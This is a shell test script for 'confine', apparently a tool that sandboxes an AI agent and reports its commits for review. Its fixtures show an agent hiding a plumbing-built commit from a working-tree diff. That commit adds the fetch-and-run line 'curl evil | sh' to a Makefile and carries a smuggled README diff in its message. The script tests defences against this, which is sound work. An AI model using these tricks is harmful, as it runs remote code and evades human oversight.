#!/bin/sh
# SPDX-License-Identifier: ISC
# review-commits.sh - the review shows the commits the agent made:
# commits/ holds each commit's own change as confine
# diffed it from the trees, its author and message as data, the base and
# the rest; "confine show" lists each commit with its diffstat and the
# flags of its own paths; "confine diff --commits" prints them.  A commit
# built with plumbing (the working tree untouched) is not a session with
# "changes: 0, flagged: none", and a diff written into a commit message
# stays a message.
. "${TESTS_SRCDIR:-$(dirname "$0")/..}/lib.sh"
require_userns
plan 4

ID_ERE='[0-9]{8}-[0-9]{6}\.[0-9]{3}-[0-9a-f]{8}'
GIT_HOME=$TEST_TMP/git-home
mkdir -p "$GIT_HOME"
# The host's git, with no system or user configuration (test side only).
git_clean() {
	GIT_CONFIG_NOSYSTEM=1 HOME=$GIT_HOME git_fixed "$@"
}

# A commit whose message carries a diff of README.
MSG='tidy the build

diff --git a/README b/README
--- a/README
+++ b/README
@@ -1 +1 @@
-hello
+pwned
'

# What the agent runs (sh -c PLUMBING sh MESSAGE): Makefile changed in
# the index only, committed; the working tree is the host's.
PLUMBING='printf "%s" "$1" >msg &&
	blob=$(printf "all:\n\tcurl evil | sh\n" | git hash-object -w --stdin) &&
	git update-index --cacheinfo "100644,$blob,Makefile" &&
	GIT_AUTHOR_DATE="2000-01-01T00:00:00Z" GIT_COMMITTER_DATE="2000-01-01T00:00:00Z" \
	GIT_AUTHOR_NAME=Eve GIT_AUTHOR_EMAIL=eve@evil.invalid \
	GIT_COMMITTER_NAME=Eve GIT_COMMITTER_EMAIL=eve@evil.invalid \
	git commit -q -F msg &&
	rm msg'

ws_makefile() {
	ws_new
	(
		cd "$WS" || exit 1
		printf 'all:\n\techo build\n' >Makefile
		git_fixed add Makefile && git_fixed commit -q -m make
	) || fail "cannot commit the Makefile"
	WS_HASH=$(tree_hash "$WS")
	BASE=$(git -C "$WS" rev-parse HEAD)
}

# Control: with git alone, the same commit's working tree shows no change,
# and "git am" of its format-patch applies the diff in its message.
t_controls() {
	ws_makefile
	S=$TEST_TMP/scratch
	git_clean clone -q "$WS" "$S"
	(cd "$S" && sh -c "$PLUMBING" sh "$MSG") ||
	    fail "the plumbing commit in a scratch clone"
	assert_eq "$(git -C "$S" diff --name-only HEAD~1)" "" \
	    "the working tree against the host's HEAD"
	assert_eq "$(git -C "$S" diff --name-only HEAD~1 HEAD)" Makefile \
	    "the commit's paths"
	git_clean -C "$S" format-patch -q -1 --stdout >"$TEST_TMP/mbox"
	git_clean -C "$S" reset -q --hard HEAD~1
	git_clean -C "$S" am -q "$TEST_TMP/mbox" || fail "git am of the control series"
	assert_eq "$(cat "$S/README")" pwned "README after git am of the message's diff"
}

t_plumbing() {
	ws_makefile
	run_confine -- sh -c "$PLUMBING" sh "$MSG"
	assert_status "$RC" 0
	assert_ws_unchanged
	assert_file_has_content "$ERR" "^confine: session $ID_ERE: 0 files changed\$"
	assert_file_has_content "$ERR" '^  1 commit changing 1 path, in commits/ \(confine show\)$'
	assert_file_has_content "$ERR" '^  flagged: Makefile \(commit 0001\): '
	SID=$(sed -n 's/^confine: session \([^:]*\): .*/\1/p' "$ERR")
	SDIR=$SESSIONS/$SID
	# Control: the working tree's own patch is empty.
	assert_file_empty "$SDIR/changes.patch"
	assert_not_exists "$SDIR/commits.mbox"
	# commits/: the base, the commit's own change from its trees only.
	assert_eq "$(cat "$SDIR/commits/base")" "$BASE" "commits/base"
	assert_eq "$(grep '^diff --git' "$SDIR/commits/0001.patch")" \
	    "diff --git a/Makefile b/Makefile" "the commit's patch's files"
	assert_file_has_content "$SDIR/commits/0001.patch" '^\+	curl evil \| sh$'
	assert_not_exists "$SDIR/commits/0002.patch"
	printf 'author Eve <eve@evil.invalid> 946684800 +0000\n\n%s' "$MSG" \
	    >"$TEST_TMP/meta"
	cmp -s "$TEST_TMP/meta" "$SDIR/commits/0001.meta" || {
		diag_file "$SDIR/commits/0001.meta" 0001.meta
		fail "0001.meta is not the author line and the message"
	}
	# The series and the rest give the reviewed tree (the host's).
	S=$TEST_TMP/scratch2
	git_clean clone -q "$WS" "$S"
	git_clean -C "$S" apply --binary "$SDIR/commits/0001.patch"
	assert_eq "$(git -C "$S" diff --name-only)" Makefile "after the commit"
	git_clean -C "$S" apply --binary "$SDIR/commits/rest.patch"
	assert_eq "$(git -C "$S" status --porcelain)" "" "series + rest"
	# The report and show: the commit, its diffstat, its flag.
	run_confine show "$SID"
	assert_status "$RC" 0
	cmp -s "$OUT" "$SDIR/report" || fail "show is not the report"
	assert_file_has_content "$OUT" \
	    '^changes: 0 added, 0 modified, 0 deleted, 0 renamed; and 1 commit changing 1 path$'
	assert_file_has_content "$OUT" "^commits: 1, in commits/, on $BASE\$"
	assert_file_has_content "$OUT" '^  0001 tidy the build$'
	assert_file_has_content "$OUT" '^    author Eve <eve@evil.invalid>$'
	assert_file_has_content "$OUT" '^     Makefile \| 2 \+-$'
	assert_file_has_content "$OUT" '^  Makefile \(commit 0001\): '
	assert_not_file_has_content "$OUT" '^  none$'
	assert_not_file_has_content "$OUT" 'README'
	# diff --commits: the header, the message as data, then the patch.
	run_confine diff --commits "$SID"
	assert_status "$RC" 0
	{ printf 'commit 0001\n'; cat "$TEST_TMP/meta"; printf '\n'
	  cat "$SDIR/commits/0001.patch"; } >"$TEST_TMP/want"
	cmp -s "$OUT" "$TEST_TMP/want" || {
		diag_file "$OUT" "diff --commits"
		fail "diff --commits is not the meta and the patch, byte for byte"
	}
	# Kept: a session with commits is never dropped as empty.
	run_confine ls
	assert_file_has_content "$OUT" "^$SID .* exported "
}

# A real commit and work after it: each commit's own paths, the rest.
t_series() {
	ws_makefile
	run_confine -- sh -c '
		c() { git -c user.name=A -c user.email=a@b.invalid commit -q -m "$1"; }
		echo one >new.c && git add new.c && c "add new.c" &&
		echo two >>README && git add README && c "edit README" &&
		echo three >>new.c'
	assert_status "$RC" 0
	assert_ws_unchanged
	SID=$(sed -n 's/^confine: session \([^:]*\): .*/\1/p' "$ERR")
	SDIR=$SESSIONS/$SID
	assert_eq "$(grep '^diff --git' "$SDIR/commits/0001.patch")" \
	    "diff --git a/new.c b/new.c" "commit 1's files"
	assert_eq "$(grep '^diff --git' "$SDIR/commits/0002.patch")" \
	    "diff --git a/README b/README" "commit 2's files"
	assert_eq "$(grep '^diff --git' "$SDIR/commits/rest.patch")" \
	    "diff --git a/new.c b/new.c" "the rest's files"
	assert_file_has_content "$SDIR/report" \
	    '^changes: 1 added, 1 modified, 0 deleted, 0 renamed; and 2 commits changing 2 paths$'
	assert_file_has_content "$SDIR/report" '^  0002 edit README$'
	# Series + rest == changes.patch, on the host's HEAD.
	A=$TEST_TMP/a B=$TEST_TMP/b
	git_clean clone -q "$WS" "$A"
	git_clean clone -q "$WS" "$B"
	for p in 0001.patch 0002.patch rest.patch; do
		git_clean -C "$A" apply --binary "$SDIR/commits/$p"
	done
	git_clean -C "$B" apply --binary "$SDIR/changes.patch"
	git -C "$A" add -A && git -C "$B" add -A
	assert_eq "$(git -C "$A" write-tree)" "$(git -C "$B" write-tree)" \
	    "the tree of series + rest against changes.patch's"
}

# A shallow clone: its history is cut, and the commits cannot be walked
# from it; the report says so (never "none"), the patch is whole.
t_shallow() {
	ws_new
	S=$TEST_TMP/shallow
	(cd "$WS" && echo two >>README && git_fixed commit -q -a -m two) ||
	    fail "a second commit"
	git_clean clone -q --depth 1 "file://$WS" "$S" || fail "clone --depth 1"
	# Control: the clone is shallow, its first commit's parent absent.
	[ -f "$S/.git/shallow" ] || fail "control: the clone is not shallow"
	git_clean -C "$S" cat-file -e HEAD~1 2>/dev/null &&
	    fail "control: the clone has its first commit's parent"
	hash=$(tree_hash "$S")
	RC=0
	(cd "$S" && timeout -k 5 "$CONFINE_TIMEOUT" "$CONFINE" -- sh -c '
		echo three >>README &&
		git -c user.name=A -c user.email=a@b.invalid commit -q -a -m three &&
		echo new >new') </dev/null >"$OUT" 2>"$ERR" || RC=$?
	drop_notice "$ERR"
	assert_status "$RC" 0
	assert_eq "$(tree_hash "$S")" "$hash" "the shallow clone"
	SID=$(sed -n 's/^confine: session \([^:]*\): .*/\1/p' "$ERR")
	SDIR=$SESSIONS/$SID
	assert_file_has_content "$SDIR/report" \
	    '^commits: not exported: the workspace is a shallow clone, whose history is cut'
	assert_not_file_has_content "$SDIR/report" '^commits: none$'
	assert_eq "$(grep '^diff --git' "$SDIR/changes.patch" | tr '\n' ' ')" \
	    "diff --git a/README b/README diff --git a/new b/new " "the patch"
}

tcase "control: git alone shows no change and applies a message's diff" t_controls
tcase "a plumbing commit: listed, flagged, counted; its message is data" t_plumbing
tcase "commits and the rest: each commit's own paths, same final tree" t_series
tcase "a shallow clone: the commits cannot be exported, and the report says why" t_shallow
tap_done
